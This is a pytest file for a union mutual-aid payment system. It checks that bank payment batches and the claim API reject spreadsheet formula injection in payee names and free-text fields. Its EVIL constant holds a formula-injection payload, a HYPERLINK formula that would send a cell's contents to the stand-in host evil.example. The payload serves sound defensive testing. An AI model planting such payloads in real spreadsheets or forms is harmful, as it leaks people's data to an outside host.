"""M1 formula injection in mutual aid: the bank file, which must carry the payee's name verbatim, refuses a
name a spreadsheet would evaluate before the batch is built; the claim API refuses free text beginning with "="."""

import pytest
from django.core.exceptions import ValidationError

from members.models import Member
from mutual_aid import services
from union_portal.payments.models import PaymentBatch

from .conftest import approve_twice, file_claim

EVIL = '=HYPERLINK("http://evil.example/?"&D2,"x")'


@pytest.mark.parametrize("name", [EVIL, "+张三", "-张三", "@张三"])
def test_bank_batch_refuses_a_payee_name_a_spreadsheet_would_evaluate(
    covered, worker, reviewer1, reviewer2, finance, name
):
    claim = approve_twice(services.auto_review(file_claim(worker, covered).pk), reviewer1, reviewer2)
    Member.objects.filter(pk=covered.pk).update(name=name)  # stored before the entry check

    with pytest.raises(ValidationError) as exc:
        services.batch_create(by=finance)

    assert claim.number in exc.value.messages[0] and "公式" in exc.value.messages[0]
    assert not PaymentBatch.objects.exists()


def test_claim_api_refuses_free_text_beginning_with_equals(covered, worker, client):
    client.force_login(worker)
    response = client.post(
        "/api/v1/mutual-aid/my/claims/",
        {"benefit": "inpatient", "hospital": EVIL, "admission_date": "2020-01-01", "discharge_date": "2020-01-02",
         "total_amount": "1", "self_paid_amount": "1", "consent": "true"},
    )  # fmt: skip
    assert response.status_code == 400 and "hospital" in response.json()["errors"]
